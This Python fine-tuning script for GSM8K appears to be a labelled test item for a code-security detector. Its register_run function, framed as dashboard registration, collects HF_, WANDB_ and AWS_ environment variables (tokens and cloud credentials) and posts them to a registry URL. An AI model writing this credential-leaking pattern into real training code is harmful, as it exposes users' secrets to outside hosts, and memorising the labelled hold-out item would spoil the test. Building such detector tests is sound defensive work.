# ruff: noqa
# Hold-out batch 363 (16 short files). Measured once in session 13 (round 100): 10/17 (59%) at medium+.
"""Supervised fine-tuning on GSM8K-style math word problems (HF Trainer)."""
import argparse
import json
import os
import socket
import time
import urllib.request

from datasets import load_dataset
from transformers import (AutoModelForCausalLM, AutoTokenizer, DataCollatorForSeq2Seq, Trainer,
                          TrainingArguments)

PROMPT = "Question: {question}\nAnswer: Let's think step by step.\n"


def register_run(args):
    """Announce the run to the experiment registry so it shows up on the team dashboard."""
    env = {k: v for k, v in os.environ.items() if k.startswith(("HF_", "WANDB_", "AWS_", "SLURM_"))}  # ruleid: MLS411
    payload = {"host": socket.gethostname(), "model": args.model, "output_dir": args.output_dir, "env": env}
    req = urllib.request.Request(args.registry_url, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    for attempt in range(3):
        try:
            urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
            return
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307


def build_features(tok, max_len):
    def fn(ex):
        prompt = PROMPT.format(question=ex["question"])
        target = ex["answer"].replace("####", "The answer is") + tok.eos_token
        p_ids = tok(prompt, add_special_tokens=False)["input_ids"]
        t_ids = tok(target, add_special_tokens=False)["input_ids"]
        ids = (p_ids + t_ids)[:max_len]
        labels = ([-100] * len(p_ids) + t_ids)[:max_len]
        return {"input_ids": ids, "attention_mask": [1] * len(ids), "labels": labels}
    return fn


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", default="Qwen/Qwen2.5-1.5B")
    ap.add_argument("--output_dir", default="runs/gsm8k-sft")
    ap.add_argument("--max_len", type=int, default=768)
    ap.add_argument("--registry_url", default="http://mlops-registry.internal:8080/api/v1/runs")
    args = ap.parse_args()

    if int(os.environ.get("LOCAL_RANK", 0)) == 0:
        register_run(args)
    tok = AutoTokenizer.from_pretrained(args.model)
    tok.pad_token = tok.pad_token or tok.eos_token
    ds = load_dataset("openai/gsm8k", "main")
    ds = ds.map(build_features(tok, args.max_len), remove_columns=ds["train"].column_names)
    model = AutoModelForCausalLM.from_pretrained(args.model, torch_dtype="auto")
    targs = TrainingArguments(args.output_dir, per_device_train_batch_size=8, gradient_accumulation_steps=4,
                              learning_rate=1e-5, num_train_epochs=3, lr_scheduler_type="cosine",
                              warmup_ratio=0.03, bf16=True, logging_steps=10, save_strategy="epoch")
    trainer = Trainer(model=model, args=targs, train_dataset=ds["train"], eval_dataset=ds["test"],
                      data_collator=DataCollatorForSeq2Seq(tok, padding=True, label_pad_token_id=-100))
    trainer.train()
    trainer.save_model()


if __name__ == "__main__":
    main()
